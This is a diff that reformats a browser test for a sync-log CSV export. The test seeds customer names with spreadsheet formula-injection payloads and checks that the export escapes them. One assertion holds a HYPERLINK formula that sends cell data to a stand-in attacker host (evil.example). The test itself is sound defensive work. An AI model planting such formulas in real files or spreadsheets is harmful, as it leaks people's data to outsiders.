@@ -19,11 +19,27 @@ describe('exporting the sync log in a browser', () => {
   before(async () => {
     browser = await launchChromium();
     bridge = await startBridge({ env: { SYNC_ATTEMPTS: '1' } });
-    await deliver(bridge, 'customer.created', customerBody({ id: 70, email: 'ana@example.com', first_name: FORMULA, last_name: '', date_modified_gmt: wooTime(0) }));
-    await deliver(bridge, 'customer.created', customerBody({ id: 71, email: 'bo@example.com', first_name: '@SUM(1+1)', last_name: '', date_modified_gmt: wooTime(1) }));
-    await deliver(bridge, 'customer.created', customerBody({ id: 72, email: 'cy@example.com', first_name: '\t-1+2', last_name: '', date_modified_gmt: wooTime(2) }));
+    await deliver(
+      bridge,
+      'customer.created',
+      customerBody({ id: 70, email: 'ana@example.com', first_name: FORMULA, last_name: '', date_modified_gmt: wooTime(0) }),
+    );
+    await deliver(
+      bridge,
+      'customer.created',
+      customerBody({ id: 71, email: 'bo@example.com', first_name: '@SUM(1+1)', last_name: '', date_modified_gmt: wooTime(1) }),
+    );
+    await deliver(
+      bridge,
+      'customer.created',
+      customerBody({ id: 72, email: 'cy@example.com', first_name: '\t-1+2', last_name: '', date_modified_gmt: wooTime(2) }),
+    );
     bridge.sim.injectFault({ endpoint: 'listsubscribe', kind: 'http503' });
-    const failed = await deliver(bridge, 'customer.created', customerBody({ id: 73, email: 'di@example.com', first_name: '+Di', last_name: 'Failed', date_modified_gmt: wooTime(3) }));
+    const failed = await deliver(
+      bridge,
+      'customer.created',
+      customerBody({ id: 73, email: 'di@example.com', first_name: '+Di', last_name: 'Failed', date_modified_gmt: wooTime(3) }),
+    );
     assert.equal(failed.status, 'failed');
     tab = await signInInBrowser(browser, bridge);
   });
@@ -42,7 +58,10 @@ describe('exporting the sync log in a browser', () => {
     await page.goto('/admin/events?q=ana%40example.com');
     const { name, text } = await download(page, /Download these changes/);
     assert.match(name, /^sync-log-\d{4}-\d{2}-\d{2}\.csv$/);
-    const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
+    const lines = text
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n');
     assert.equal(lines.length, 2, 'the header and the one matching change');
     assert.match(lines[0]!, /^"Received \(UTC\)","Received \(your time\)","Change number","Store","Change","Customer name","Email"/);
     assert.ok(lines[1]!.includes(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")`), lines[1]);
